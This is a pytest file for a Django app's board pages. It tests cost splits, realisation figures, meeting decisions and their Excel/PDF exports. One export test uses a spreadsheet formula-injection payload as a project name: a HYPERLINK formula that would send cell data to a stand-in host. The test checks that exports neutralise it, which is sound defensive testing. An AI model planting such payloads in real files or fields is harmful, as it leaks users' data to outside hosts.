"""The board's tables as pages with Excel and PDF downloads, computed from the data: the cost
split per project (seed 000, Tabel 2), the realisation per project (seed 003, Tabel 1) and a
meeting's decisions across projects (seed 000, Tabel 1)."""

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from openpyxl import load_workbook
from pypdf import PdfReader

from billing.models import Invoice
from billing.services import credit_invoice, issue_run
from board.selectors import computed_realisation, documented_realisation, realisation
from projects.models import Meeting
from projects.selectors import cost_split, meeting_decisions
from projects.services import decision_save
from tests.factories import (
    AgreementFactory,
    BudgetFactory,
    BudgetLineFactory,
    CohortFactory,
    DecisionFactory,
    ParticipantFactory,
    ProjectFactory,
    TariffOptionFactory,
    TrajectoryFactory,
)
from waw.periods import Period

pytestmark = pytest.mark.django_db

Q1 = Period.parse("2025-Q1")
AFTER_Q1 = dt.date(2025, 4, 15)
NBSP = "\u00a0"


def euro(text):
    return f"€{NBSP}{text}"


@pytest.fixture
def reference_data(db):
    call_command("load_reference_data", verbosity=0)


def pdf_text(content: bytes) -> str:
    return " ".join(
        " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages).split()
    )


def sheet_of(content: bytes):
    return load_workbook(io.BytesIO(content)).active


# --- cost split (seed 000, Tabel 2) -----------------------------------------------------------


def test_cost_split_page_shows_the_documents_totals_for_2025_after_loading_the_reference_data(
    reference_data, client_for, board_member
):
    content = client_for(board_member).get("/bestuur/kostenverdeling/2025/").content.decode()

    total_row = content[content.index("<tfoot>") :]
    for figure in ("905.200,00", "391.000,00", "514.200,00"):
        assert euro(figure) in total_row
    assert ">426<" in total_row
    assert "Wijkleerbedrijf" in content and euro("220.000,00") in content


def test_cost_split_rows_are_the_agreements_of_the_year_with_their_programme(reference_data):
    split = cost_split(year=2025)

    rows = {a.project.name: a for a in split["rows"]}
    assert rows["Bouw en Techniekstart"].total_costs == Decimal("240000.00")
    assert rows["Ik in de kinderopvang"].participant_costs == Decimal("124500.00")
    assert {a.programme.name for a in split["rows"]} == {"Overgangsjaar 2025"}
    assert split["totals"]["total_costs"] == Decimal("905200.00")


def test_a_year_without_agreements_has_no_cost_split_page(client_for, board_member):
    assert client_for(board_member).get("/bestuur/kostenverdeling/2031/").status_code == 404


# --- realisation (seed 003, Tabel 1) ----------------------------------------------------------


@pytest.fixture
def invoiced_year(coordinator, huizen, laren):
    """Wijkleerbedrijf: three trajectories at € 4.000 started in Q1 2025 (two in Huizen, one
    in Laren), invoiced; one Huizen line credited; € 100.000 project costs realised."""
    project = ProjectFactory(name="Wijkleerbedrijf", slug="wijkleerbedrijf")
    TariffOptionFactory(
        agreement=AgreementFactory(project=project, year=2025),
        price_per_participant=Decimal("4000.00"),
    )
    for municipality, day in ((huizen, 3), (huizen, 4), (laren, 5)):
        TrajectoryFactory(
            participant=ParticipantFactory(municipality=municipality),
            project=project,
            municipality_at_start=municipality,
            enrolment_date=dt.date(2025, 2, 1),
            start_date=dt.date(2025, 2, day),
        )
    issue_run(period=Q1, user=coordinator, today=AFTER_Q1)
    invoice = Invoice.objects.get(municipality=huizen)
    credit_invoice(
        invoice=invoice,
        line_ids=[invoice.lines.first().pk],
        rebill_ids=[],
        reason="Dubbel ingeschreven",
        user=coordinator,
        today=AFTER_Q1,
    )
    budget = BudgetFactory(year=2025)
    BudgetLineFactory(
        budget=budget, project=project, planned=Decimal("100000"), realised=Decimal("99999.99")
    )
    BudgetLineFactory(budget=budget, project=None, realised=Decimal("5000.00"))  # no project
    return project


def test_realisation_counts_trajectory_costs_invoiced_minus_credited_to_the_cent(invoiced_year):
    [row] = computed_realisation(year=2025).rows

    assert row.project == "Wijkleerbedrijf"
    assert row.participants == 3
    assert row.trajectory_costs == Decimal("8000.00")  # 3 × € 4.000 − € 4.000 credited
    assert row.project_costs == Decimal("99999.99")
    assert row.total == Decimal("107999.99")
    assert row.cost_per_participant == Decimal("36000.00")


def test_realisation_counts_a_groups_minimum_purchase_as_trajectory_costs(coordinator, huizen):
    project = ProjectFactory(name="Regiotrainingen")
    option = TariffOptionFactory(
        agreement=AgreementFactory(project=project, year=2025),
        price_per_participant=Decimal("500.00"),
        min_group_size=7,
    )
    group = CohortFactory(tariff_option=option, start_date=dt.date(2025, 2, 3), status="planned")
    for _index in range(5):
        TrajectoryFactory(
            participant=ParticipantFactory(municipality=huizen),
            project=project,
            municipality_at_start=huizen,
            cohort=group,
            enrolment_date=dt.date(2025, 1, 20),
            start_date=dt.date(2025, 2, 3),
        )
    from participants.services import cohort_start

    cohort_start(cohort=group, reason="Twee plaatsen bleven leeg", user=coordinator)
    issue_run(period=Q1, user=coordinator, today=AFTER_Q1)

    [row] = computed_realisation(year=2025).rows

    assert row.trajectory_costs == Decimal("3500.00")  # 5 × € 500 + shortfall 2 × € 500


def test_realisation_total_adds_up_the_projects_and_divides_by_all_participants(
    invoiced_year, coordinator, huizen
):
    other = ProjectFactory(name="Motopp")
    AgreementFactory(project=other, year=2025)  # an agreement, but nothing happened

    figures = computed_realisation(year=2025)

    assert [row.project for row in figures.rows] == ["Motopp", "Wijkleerbedrijf"]
    assert figures.rows[0].cost_per_participant is None
    assert (figures.total.participants, figures.total.total) == (3, Decimal("107999.99"))


def test_a_year_invoiced_in_the_app_is_computed_and_the_documents_figures_stay_apart(
    invoiced_year, client_for, board_member
):
    from projects.models import DocumentedRealisation

    DocumentedRealisation.objects.create(
        project=invoiced_year, year=2025, participants=35, source="seed 003, Tabel 1"
    )

    figures = realisation(year=2025)
    content = client_for(board_member).get("/bestuur/realisatie/2025/").content.decode()

    assert figures["computed"].total.participants == 3
    assert figures["documented"].total.participants == 35
    assert "(berekend)" in content and "(volgens document)" in content


def test_a_year_not_invoiced_in_the_app_shows_the_documents_figures_labelled_with_source(
    reference_data, client_for, board_member
):
    figures = realisation(year=2025)
    content = client_for(board_member).get("/bestuur/realisatie/2025/").content.decode()

    assert figures["invoiced"] is False and figures["computed"] is None
    assert "(berekend)" not in content
    assert "volgens document" in content and "Routekaart arbeidsmarktinfrastructuur 2026–2030, Bijlage 1, Tabel 1" in content
    total_row = content[content.index("<tfoot>") :]
    for figure in ("338.906,00", "260.000,00", "598.906,00", "2.162,12"):
        assert euro(figure) in total_row
    assert ">277<" in total_row


def test_the_documents_rows_for_2025_are_seed_003_tabel_1(reference_data):
    rows = {row.project: row for row in documented_realisation(year=2025).rows}

    assert (rows["Regiotrainingen"].participants, rows["Regiotrainingen"].trajectory_costs) == (
        53,
        Decimal("31973.00"),
    )
    assert rows["Zorgstart"].trajectory_costs == Decimal("0")
    assert rows["Zorgstart"].project_costs == Decimal("50000.00")
    assert rows["Bouw en Techniekstart"].total == Decimal("172400.00")
    assert len(rows) == 7


# --- decisions of one meeting (seed 000, Tabel 1) ---------------------------------------------


def test_a_decision_is_filed_in_the_meeting_of_its_body_and_date():
    first = decision_save(decision=DecisionFactory.build(project=ProjectFactory(), meeting=None))
    second = decision_save(decision=DecisionFactory.build(project=ProjectFactory(), meeting=None))
    other = decision_save(
        decision=DecisionFactory.build(
            project=ProjectFactory(), body="Regionaal Beraad", meeting=None
        )
    )

    assert first.meeting == second.meeting != other.meeting
    assert list(meeting_decisions(meeting=first.meeting)) == [first, second]


def test_meeting_page_lists_its_decisions_across_projects_with_the_tables_columns(
    reference_data, client_for, board_member
):
    meeting = Meeting.objects.get(body="PFHO", date=dt.date(2024, 9, 27))

    content = client_for(board_member).get(f"/bestuur/vergadering/{meeting.pk}/").content.decode()

    assert meeting.decisions.count() == 11
    for text in (
        "Opleiding met MBO diploma",  # type
        "variabel - max 6 maanden",  # duration
        "161 deelnemers, 13 op dit moment in traject, 84% behaalt diploma",  # results
        "Gematigd positief",  # vote
        "Verlengen met 1 jaar (2 klassen)",  # final advice
        "Vooralsnog niet verlengen",
    ):
        assert text in content
    assert content.index("AI Annotatielab") < content.index("Zorgstart")


def test_board_index_lists_the_years_and_meetings(reference_data, client_for, board_member):
    content = client_for(board_member).get("/bestuur/").content.decode()

    assert "/bestuur/kostenverdeling/2025/" in content
    assert "/bestuur/realisatie/2025/" in content
    assert "PFHO 27-09-2024" in content


# --- exports ---------------------------------------------------------------------------------


def test_cost_split_excel_opens_with_the_figures_as_numbers_and_no_formula_cells(
    client_for, board_member
):
    project = ProjectFactory(name='=HYPERLINK("http://x.example/?d="&A2,"klik")')
    TariffOptionFactory(
        agreement=AgreementFactory(
            project=project, year=2025, joint_project_costs=Decimal("1000.00")
        ),
        price_per_participant=Decimal("250.50"),
    )

    response = client_for(board_member).get("/bestuur/kostenverdeling/2025/xlsx/")
    sheet = sheet_of(response.content)
    rows = list(sheet.iter_rows(values_only=True))
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert response["Content-Disposition"] == 'attachment; filename="kostenverdeling-2025.xlsx"'
    assert all(cell.data_type != "f" for cell in cells)
    assert rows[1][0] == project.name  # the text, kept as text
    assert rows[1][2] == Decimal("3505.00") or rows[1][2] == 3505  # 1000 + 10 × 250,50
    assert rows[-1][0] == "Totaal"


def test_realisation_and_meeting_excel_open_without_formula_cells(
    reference_data, client_for, board_member
):
    client = client_for(board_member)
    meeting = Meeting.objects.get(body="PFHO", date=dt.date(2024, 9, 27))
    for url in ("/bestuur/realisatie/2025/xlsx/", f"/bestuur/vergadering/{meeting.pk}/xlsx/"):
        sheet = sheet_of(client.get(url).content)
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        assert sheet.max_row > 7


def test_board_tables_render_as_pdf(reference_data, client_for, board_member):
    client = client_for(board_member)
    meeting = Meeting.objects.get(body="PFHO", date=dt.date(2024, 9, 27))

    cost_split_pdf = client.get("/bestuur/kostenverdeling/2025/pdf/")
    realisation_pdf = pdf_text(client.get("/bestuur/realisatie/2025/pdf/").content)
    meeting_pdf = pdf_text(client.get(f"/bestuur/vergadering/{meeting.pk}/pdf/").content)

    assert cost_split_pdf["Content-Type"] == "application/pdf"
    assert "905.200,00" in pdf_text(cost_split_pdf.content)
    assert "volgens document" in realisation_pdf and "598.906,00" in realisation_pdf
    assert "Verlengen met 1 jaar (6 groepen)" in meeting_pdf


def test_an_unknown_export_format_is_not_found(reference_data, client_for, board_member):
    assert client_for(board_member).get("/bestuur/realisatie/2025/csv/").status_code == 404


def test_the_main_menu_offers_the_board_tables_to_bestuurders_not_to_gemeente_users(
    client_for, board_member, huizen_user
):
    assert 'href="/bestuur/"' in client_for(board_member).get("/").content.decode()
    assert 'href="/bestuur/"' not in client_for(huizen_user).get("/").content.decode()


# --- wording ----------------------------------------------------------------------------------


def test_board_page_buttons_say_excel_and_pdf_downloaden(reference_data, client_for, board_member):
    content = client_for(board_member).get("/bestuur/kostenverdeling/2025/").content.decode()

    assert ">Excel downloaden</a>" in content and ">PDF downloaden</a>" in content
    assert "Download" not in content


def test_documents_realisation_names_its_source_once(reference_data, client_for, board_member):
    content = client_for(board_member).get("/bestuur/realisatie/2025/").content.decode()

    assert content.count("Routekaart arbeidsmarktinfrastructuur 2026–2030, Bijlage 1, Tabel 1") == 1
